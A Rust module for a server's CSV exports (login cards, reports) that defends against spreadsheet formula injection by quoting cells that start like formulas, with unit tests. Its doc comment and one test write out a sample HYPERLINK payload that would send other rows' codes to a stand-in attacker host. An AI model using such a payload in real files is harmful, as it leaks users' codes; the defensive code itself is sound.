//! The one CSV writer for everything the server exports (login cards, report CSVs, any later
//! export). Every cell is made safe to open in a spreadsheet: a cell that starts with `=`, `+`,
//! `-`, `@`, a tab or a carriage return would be read as a formula (a name such as
//! `=HYPERLINK("http://evil.example/?c="&F2,"Click")` on a login card would send the codes of the
//! other rows to that address), so it is written with a single quote in front (OWASP's rule for
//! CSV injection). Quoting and escaping are the `csv` crate's.

use std::borrow::Cow;

use crate::error::ApiError;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write: prefixed with `'` when it starts like a formula.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV document being written in memory.
pub struct CsvExport {
    out: csv::Writer<Vec<u8>>,
}

impl Default for CsvExport {
    fn default() -> Self {
        CsvExport::new()
    }
}

impl CsvExport {
    pub fn new() -> CsvExport {
        CsvExport {
            out: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one row, each cell neutralized.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), ApiError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut record = csv::StringRecord::new();
        for cell in cells {
            record.push_field(&neutralize(cell.as_ref()));
        }
        self.out.write_record(&record).map_err(failed)
    }

    /// The document.
    pub fn finish(self) -> Result<String, ApiError> {
        let bytes = self.out.into_inner().map_err(|e| failed(e.into_error()))?;
        String::from_utf8(bytes).map_err(|e| ApiError::internal(format!("writing CSV: {e}")))
    }
}

fn failed(e: impl std::fmt::Display) -> ApiError {
    ApiError::internal(format!("writing CSV: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_a_formula_get_a_quote_in_front() {
        for cell in ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralize(cell), format!("'{cell}"));
        }
        for cell in [
            "Maya",
            "",
            "1-2",
            "a=b",
            "'=x",
            " =x",
            "<5",
            ">95",
            "2026-12-06",
        ] {
            assert_eq!(neutralize(cell), cell);
        }
    }

    #[test]
    fn a_document_quotes_and_neutralizes() {
        let mut doc = CsvExport::new();
        doc.row(["name", "code"]).unwrap();
        doc.row([
            r#"=HYPERLINK("http://evil.example/?c="&F2,"Click")"#,
            "K7QM",
        ])
        .unwrap();
        assert_eq!(
            doc.finish().unwrap(),
            "name,code\n\"'=HYPERLINK(\"\"http://evil.example/?c=\"\"&F2,\"\"Click\"\")\",K7QM\n"
        );
    }
}
